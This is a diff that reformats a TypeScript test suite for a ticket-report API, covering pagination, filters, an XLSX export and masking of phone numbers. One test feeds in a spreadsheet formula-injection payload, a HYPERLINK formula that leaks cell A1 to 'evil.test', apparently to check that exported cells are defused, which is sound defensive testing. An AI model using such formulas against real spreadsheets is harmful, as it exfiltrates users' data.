@@ -7,7 +7,8 @@ let admin: { token: string; companyId: number; userId: number };
 const contacts: Array<{ id: number; number: string }> = [];
 const tickets: number[] = [];
 
-const call = (token: string, method: 'GET' | 'POST' | 'PUT', url: string, payload?: object) => server.app.inject({ method, url, headers: bearer(token), ...(payload ? { payload } : {}) });
+const call = (token: string, method: 'GET' | 'POST' | 'PUT', url: string, payload?: object) =>
+  server.app.inject({ method, url, headers: bearer(token), ...(payload ? { payload } : {}) });
 
 beforeAll(async () => {
   server = await startTestServer();
@@ -44,7 +45,12 @@ describe('tickets report', () => {
     expect(first.json().tickets.map((t: { id: number }) => t.id)).toEqual([...tickets].reverse().slice(0, 5));
     const third = (await call(admin.token, 'GET', '/ticket/reports?pageSize=5&page=3')).json();
     expect(third.tickets).toHaveLength(2);
-    expect(third.tickets[0]).toMatchObject({ contactName: expect.stringMatching(/^Report Contact/), status: 'closed', userName: expect.any(String), NPS: null });
+    expect(third.tickets[0]).toMatchObject({
+      contactName: expect.stringMatching(/^Report Contact/),
+      status: 'closed',
+      userName: expect.any(String),
+      NPS: null,
+    });
   });
 
   it('filters by status, contact, user and days', async () => {
@@ -70,7 +76,21 @@ describe('tickets report', () => {
     expect(response.headers['content-disposition']).toContain('relatorio-de-atendimentos.xlsx');
     expect(response.headers['x-total-count']).toBe('8');
     const sheet = (await workbookOf(response.rawPayload)).getWorksheet('RelatorioDeAtendimentos')!;
-    expect(sheet.getRow(1).values).toEqual([undefined, 'ID', 'Conexão', 'Contato', 'Número', 'Usuário', 'Fila', 'Status', 'Última mensagem', 'Abertura', 'Fechamento', 'Tempo de atendimento (min)', 'NPS']);
+    expect(sheet.getRow(1).values).toEqual([
+      undefined,
+      'ID',
+      'Conexão',
+      'Contato',
+      'Número',
+      'Usuário',
+      'Fila',
+      'Status',
+      'Última mensagem',
+      'Abertura',
+      'Fechamento',
+      'Tempo de atendimento (min)',
+      'NPS',
+    ]);
     expect(sheet.rowCount).toBe(9);
     expect(sheet.getRow(2).getCell(1).value).toBe(tickets[11]);
     expect(sheet.getRow(2).getCell(4).value).toBe(contacts[11]!.number);
@@ -96,7 +116,11 @@ describe('tickets report', () => {
     expect(numbers).toHaveLength(12);
     expect(numbers.every((number) => number.includes('*') && !contacts.some((c) => c.number === number))).toBe(true);
     // The admin still sees them whole.
-    expect((await call(admin.token, 'GET', '/ticket/reports?pageSize=50')).json().tickets.some((t: { contactNumber: string }) => t.contactNumber === contacts[0]!.number)).toBe(true);
+    expect(
+      (await call(admin.token, 'GET', '/ticket/reports?pageSize=50'))
+        .json()
+        .tickets.some((t: { contactNumber: string }) => t.contactNumber === contacts[0]!.number),
+    ).toBe(true);
   });
 
   it('moments shows the attendant’s open tickets', async () => {
@@ -125,7 +149,12 @@ describe('tickets report spreadsheet cells', () => {
     expect(sandbox.statusCode, sandbox.body).toBe(201);
     const name = '@SUM(1+1)';
     const message = '=HYPERLINK("http://evil.test/?leak="&A1,"clique")';
-    const said = await server.app.inject({ method: 'POST', url: `/sandbox/${sandbox.json().id}/messages`, headers: bearer(sandbox.json().token), payload: { from: '5521977999001', name, body: message } });
+    const said = await server.app.inject({
+      method: 'POST',
+      url: `/sandbox/${sandbox.json().id}/messages`,
+      headers: bearer(sandbox.json().token),
+      payload: { from: '5521977999001', name, body: message },
+    });
     expect(said.statusCode, said.body).toBe(202);
     await settle(server);
     const ticketId = said.json().ticketId as number;
